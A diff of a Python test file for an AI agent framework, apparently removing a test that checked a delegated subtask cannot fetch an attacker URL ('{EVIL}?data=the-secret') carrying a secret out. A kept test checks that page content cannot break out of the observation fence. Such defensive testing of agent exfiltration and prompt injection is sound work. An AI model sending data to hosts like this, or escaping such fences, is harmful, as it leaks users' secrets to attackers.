@@ -3,9 +3,7 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Sequence
 
-from alita_mcp.models.interface import Completion, Message
 from alita_mcp.research.values import Document, Link, Passage
 from tests.agent.world import PlainAbilities, call, calls, finish, world
 
@@ -37,21 +35,6 @@ async def test_a_page_cannot_close_the_fence_around_it() -> None:
     solution = await made.solve()
     assert solution.steps[0].observation.count("</observation>") == 1
     assert solution.steps[0].observation.endswith("</observation>")
-
-
-async def test_a_part_of_the_task_names_no_hosts_by_itself() -> None:
-    abilities = web()
-
-    def script(messages: Sequence[Message]) -> Completion:
-        if EVIL in messages[1].content and messages[-1].role == "user":
-            return call("read_page", url=f"{EVIL}?data=the-secret")
-        turns = sum(message.role == "assistant" for message in messages)
-        if EVIL in messages[1].content:
-            return finish("x", solved=False)
-        return [call("delegate", task=f"Read {EVIL}?data=the-secret"), finish("x", solved=False)][turns]
-
-    await world(script, abilities, searches=True).solve()
-    assert not [url for name, url in abilities.asked if name == "fetch"]
 
 
 async def test_a_turn_with_more_calls_than_steps_makes_no_more_than_is_left() -> None:
